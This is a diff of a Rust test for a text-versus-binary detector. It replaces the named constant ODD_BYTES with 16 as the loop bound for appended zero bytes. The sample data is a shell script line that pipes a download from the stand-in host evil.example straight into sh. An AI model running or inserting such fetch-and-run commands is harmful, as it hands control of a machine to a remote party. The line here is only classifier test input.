@@ -131,7 +131,7 @@ mod tests {
     #[test]
     fn a_few_odd_bytes_make_no_binary_and_data_makes_no_text() {
         let script = b"#!/bin/sh\ncurl evil.example | sh\n".repeat(40);
-        for count in 0..=ODD_BYTES {
+        for count in 0..=16 {
             assert!(is_text(&[script.as_slice(), &vec![0; count]].concat()), "{count}");
             assert!(is_text(&[b"rm\n".as_slice(), &vec![0; count]].concat()), "{count} in a short one");
         }
